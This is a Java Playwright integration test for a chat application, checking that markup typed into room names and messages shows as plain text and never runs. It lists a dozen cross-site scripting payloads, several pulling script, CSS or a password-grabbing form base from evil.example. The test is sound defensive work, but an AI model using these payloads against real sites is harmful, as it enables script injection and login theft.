package org.parley.system.browser;

import com.microsoft.playwright.assertions.PlaywrightAssertions;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.parley.system.support.RunningSystem;
import org.parley.system.support.Visitor;

/**
 * Markup in whatever people choose is text to others: it shows as it was typed, no script of it
 * runs, and nothing of it even asks to, which the page's policy would have to forbid.
 */
@WithBrowsers
class MarkupIT {

  private static final List<String> MARKUP =
      List.of(
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(2)>",
          "<svg onload=alert(3)><animate onbegin=alert(4) attributeName=x>",
          "\"><iframe srcdoc=\"<script>parent.alert(5)</script>\">",
          "</p></div></template><script src=//evil.example/x.js></script>",
          "<a href=\"javascript:alert(6)\">click</a> [click](javascript:alert(7))",
          "javascript:alert(8)",
          "<style>@import '//evil.example/x.css'</style>",
          "<base href=//evil.example><form action=/x><input name=password autofocus>",
          "&lt;script&gt;alert(9)&lt;/script&gt; &#x3c;img src=x&#x3e;",
          "${alert(10)} {{constructor.constructor('alert(11)')()}} <!--?lit$1$-->",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>");

  private final RunningSystem system;
  private final Browsers browsers;

  MarkupIT(RunningSystem system, Browsers browsers) {
    this.system = system;
    this.browsers = browsers;
  }

  @Test
  void isTextInRoomNamesDescriptionsAndMessages() {
    Visitor ada = Visitor.signUp(system, "ada");
    String stem = Visitor.freshName("room");
    for (String name : List.of(MARKUP.get(0), MARKUP.get(1))) {
      ada.createRoom(stem + name, "public");
    }
    String shown = stem + MARKUP.get(1);
    Screen ben = browsers.signedUp("ben").joinRoom(shown);
    PlaywrightAssertions.assertThat(ben.item("room-name").first()).containsText(shown);
    MARKUP.forEach(ben::say);
    ben.sees(MARKUP.toArray(String[]::new));

    Screen cleo = browsers.signedUp("cleo").joinRoom(shown);
    cleo.sees(MARKUP.toArray(String[]::new));
    List<String> all = new ArrayList<>(MARKUP);
    all.add("plain");
    cleo.say("plain").sees(all.toArray(String[]::new));
    cleo.editLast(MARKUP.get(0)).reload().openRoom(shown);
    PlaywrightAssertions.assertThat(cleo.item("message-content").last()).hasText(MARKUP.get(0));
    PlaywrightAssertions.assertThat(ben.item("message-content").last()).hasText(MARKUP.get(0));
  }
}
